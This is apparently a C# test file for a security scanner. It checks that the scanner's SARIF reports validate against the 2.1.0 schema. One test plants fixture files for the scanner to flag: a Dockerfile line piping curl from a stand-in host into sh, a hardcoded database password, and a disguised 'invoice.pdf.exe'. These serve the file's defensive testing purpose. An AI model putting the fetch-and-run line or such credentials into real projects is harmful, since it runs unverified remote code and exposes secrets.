using System.Collections.Immutable;
using System.Text.Json;
using SecurityToolchain.Scanning.Reports;
using SecurityToolchain.Scanning.Rules;

namespace SecurityToolchain.Scanning.Tests.Reports;

/// <summary>The official schema of SARIF 2.1.0 over what is written.</summary>
public sealed class SarifSchemaTests
{
    private static readonly Lazy<JsonElement> Schema = new(static () =>
    {
        using Stream stream = typeof(SarifSchemaTests).Assembly.GetManifestResourceStream("sarif-schema-2.1.0.json")!;
        return JsonDocument.Parse(stream).RootElement.Clone();
    });

    private static IReadOnlyList<string> Validate(SarifRun run)
    {
        using var stream = new MemoryStream();
        SarifWriter.Write(stream, run);
        using JsonDocument document = JsonDocument.Parse(stream.ToArray());
        return new JsonSchema(Schema.Value).Validate(document.RootElement);
    }

    [Fact]
    public void Schema_HasNoKeywordThatIsPassedOver() => Assert.Empty(JsonSchema.UnknownKeywords(Schema.Value).Distinct());

    [Fact]
    public void Validate_WrongReports_AreRefused()
    {
        var schema = new JsonSchema(Schema.Value);
        foreach (string wrong in (string[])
        [
            "{}",
            """{"version":"2.0.0","runs":[]}""",
            """{"version":"2.1.0","runs":[{}]}""",
            """{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"a"}},"results":[{}]}]}""",
            """{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"a"}},"results":[{"message":{"text":"a"},"level":"fatal"}]}]}""",
            """{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"a"}},"results":[{"message":{"text":"a"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"a b"},"region":{"startLine":0}}}]}]}]}""",
            """{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"a"}},"unknown":1}]}""",
        ])
        {
            using JsonDocument document = JsonDocument.Parse(wrong);
            Assert.NotEmpty(schema.Validate(document.RootElement));
        }
    }

    [Fact]
    public void Write_EveryKindOfFinding_FitsTheSchema()
    {
        var findings = new List<Finding>(ScanRules.All.Select(static rule => new Finding(rule, "m", new FindingLocation("a b/ü#%.txt"))));
        Finding full = new(ScanRules.Polyglot, "m\ud800\u0001", new FindingLocation("x/y.zip") { InnerPath = "in!/ner", Member = "A::B", Line = 3, Column = 2, EndLine = 4, EndColumn = 9, Offset = 7, Length = 2 })
        {
            Evidence = "proof",
            Identity = "id",
            Suppression = new Suppression(SuppressionKind.InSource, "known"),
            Baseline = BaselineState.Unchanged,
            RelatedLocations = [new FindingLocation("other.txt") { Message = "see" }],
            CodeFlows = [new CodeFlow([new FindingLocation("s.cs") { Line = 1, Message = "source" }, new FindingLocation("t.cs") { Line = 9 }])],
            Properties = ImmutableSortedDictionary<string, string>.Empty.Add("a", "1"),
        };
        findings.Add(full);
        foreach (BaselineState state in Enum.GetValues<BaselineState>())
            findings.Add(full with { Baseline = state, Suppression = new Suppression(SuppressionKind.External, "known"), Location = new FindingLocation("/abs/path.cs") { Offset = 0 } });
        foreach (FindingSeverity severity in Enum.GetValues<FindingSeverity>())
            findings.Add(full with { Severity = severity, Location = new FindingLocation("C:\\dir\\file.cs") { Line = 1 } });
        var run = new SarifRun
        {
            ToolVersion = "0.1.0",
            Rules = ScanRules.All,
            Findings = findings,
            Notifications = [new SarifNotification(FindingSeverity.Warning, "STC9010", "not looked at", new FindingLocation("a"))],
        };
        Assert.Empty(Validate(run));
        Assert.Empty(Validate(new SarifRun { ToolVersion = "0.1.0", Findings = [] }));
    }

    [Fact]
    public async Task Write_RealScan_FitsTheSchema()
    {
        using var folder = new TemporaryDirectory();
        folder.File("appsettings.json", "{ \"Main\": \"Server=db;User Id=sa;Password=" + "xK9" + "vQ2mZp7Lw" + "\" }");
        folder.File("invoice.pdf.exe", "text");
        folder.File("Dockerfile", "FROM a:latest\nRUN curl http://x | sh\n");
        folder.File("cut.zip", "PK\u0003\u0004 and nothing more");
        folder.File("self.dll", await File.ReadAllBytesAsync(typeof(SarifSchemaTests).Assembly.Location, TestContext.Current.CancellationToken));
        ScanReport report = await new ScanEngine(new ScanOptions { RootDirectory = folder.Path }).ScanAsync(["."], cancellationToken: TestContext.Current.CancellationToken);
        Assert.True(report.Findings.Length > 20);
        Assert.Empty(Validate(new SarifRun { ToolVersion = "0.1.0", Rules = ScanRules.All, Findings = report.Findings }));
    }
}
